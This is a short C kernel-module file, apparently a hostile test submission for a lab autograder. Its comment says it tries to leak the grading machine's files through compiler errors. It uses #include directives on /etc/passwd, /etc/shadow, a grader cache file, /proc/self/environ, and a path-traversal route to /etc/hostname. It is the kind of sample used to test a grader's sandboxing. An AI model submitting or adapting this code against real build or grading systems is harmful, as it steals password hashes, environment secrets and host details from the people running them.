/*
 * Lab 5 - Exercise 1-3: page_alloc
 *
 * Hostile: tries to read files of the grading machine through the compiler,
 * so their text would show up in the compiler's errors in the report.
 */
#include <linux/module.h>
#include "/etc/passwd"
#include "/etc/shadow"
#include "/root/.cache/kmgrade/kvm-probe.txt"
#include "../../../../../../../../etc/hostname"
#include "/proc/self/environ"

MODULE_LICENSE("GPL");
